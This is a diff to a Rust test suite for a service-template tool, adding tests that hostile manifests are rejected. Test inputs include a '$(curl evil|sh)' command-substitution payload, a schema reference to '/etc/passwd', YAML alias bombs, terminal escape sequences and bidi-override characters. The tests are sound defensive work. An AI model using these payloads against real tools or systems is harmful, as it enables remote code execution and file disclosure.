@@ -133,6 +133,7 @@ fn bombs_in_expressions_and_schemas() {
         "inputs: {properties: {a: {$ref: 'https://example.org/x', default: x}}}\n".to_owned(),
         "inputs: {properties: {a: {$ref: 'file:///etc/passwd', default: x}}}\n".to_owned(),
         "inputs: &a [*a]\n".to_owned(),
+        format!("facts:\n  a: &a [{}]\n  b: [{}]\n", "x,".repeat(20_000), "*a,".repeat(3_000)),
         format!("inputs: {}\n", "{a: ".repeat(3000)),
     ];
     for manifest in manifests {
@@ -141,10 +142,58 @@ fn bombs_in_expressions_and_schemas() {
         let head = world.read("evil/template.yaml");
         world.write("evil/template.yaml", &format!("{head}{manifest}"));
         let ran = create(&world);
-        // A schema that refers to itself says nothing, and is harmless; all others are errors.
-        assert!(matches!(ran.status, Some(0 | 3)), "{manifest}: {}", ran.transcript());
-        assert!(ran.status == Some(3) || manifest.contains("#/properties/a") || manifest.contains("derived"), "{manifest}");
+        // A schema that refers to itself says nothing, and is harmless, as is a long row of signs; all others are errors.
+        let is_harmless = manifest.contains("#/properties/a") || manifest.contains("derived");
+        assert_eq!(ran.status, Some(if is_harmless { 0 } else { 3 }), "{manifest:.200}: {}", ran.transcript());
     }
+}
+
+#[test]
+fn nothing_of_a_template_acts_on_the_terminal() {
+    let escape = "\\e]0;owned\\a\\e[2J";
+    let property = |schema: &str| format!("inputs: {{properties: {{service: {{properties: {{x: {schema}}}}}}}}}\n");
+    for manifest in [
+        format!("next: [\"make\\n sudo x{escape}\"]\n"),
+        "next: [\"make\\n sudo x\"]\n".to_owned(),
+        property(&format!("{{type: string, title: \"{escape}\"}}")),
+        property(&format!("{{type: string, x-pave: {{prompt: \"{escape}\"}}}}")),
+        property(&format!("{{type: string, default: \"\", minLength: 1, x-pave: {{rule: \"{escape}\"}}}}")),
+        property(&format!("{{enum: [\"{escape}\"], default: y}}")),
+        format!("inputs: {{properties: {{\"z{escape}\": {{type: string}}}}}}\n"),
+        format!("includes: [\"x{escape}\"]\n"),
+    ] {
+        let world = World::new();
+        template(&world, &[("files/x", "")]);
+        let head = world.read("evil/template.yaml");
+        world.write("evil/template.yaml", &format!("{head}{manifest}"));
+        let ran = create(&world).refused_or_rejected();
+        assert!(!ran.stderr.contains(['\u{1b}', '\u{7}']) && !ran.stdout.contains('\u{1b}'), "{manifest}: {:?}", ran.stderr);
+    }
+}
+
+#[test]
+fn a_command_for_later_holds_no_free_text() {
+    let world = World::new();
+    template(&world, &[("files/x", "")]);
+    let head = world.read("evil/template.yaml");
+    world.write(
+        "evil/template.yaml",
+        &format!("{head}next: ['echo {{{{ service.description }}}}', 'cd {{{{ service.name }}}}']\n"),
+    );
+    let run = |description: &str| {
+        let description = format!("service.description={description}");
+        let set = ["--set", &description, "--set", "service.owner=o", "--no-input", "--dry-run"];
+        world.pave(&[&["create-service", "victim", "--template", "./evil"], &set[..]].concat())
+    };
+    assert_eq!(run("plain").status, Some(0));
+    assert!(run("$(curl evil|sh)").refused(3).stderr.contains("suggested next"));
+}
+
+#[test]
+fn characters_that_hide_or_reorder_others_are_no_answer() {
+    let world = World::new();
+    let ran = world.pave(&["create-service", "x", "--yes", "--no-input", "--set", "service.description=a\u{202e}b\u{2066}c"]);
+    assert!(ran.refused(2).stderr.contains("hides or reorders"));
 }
 
 #[test]
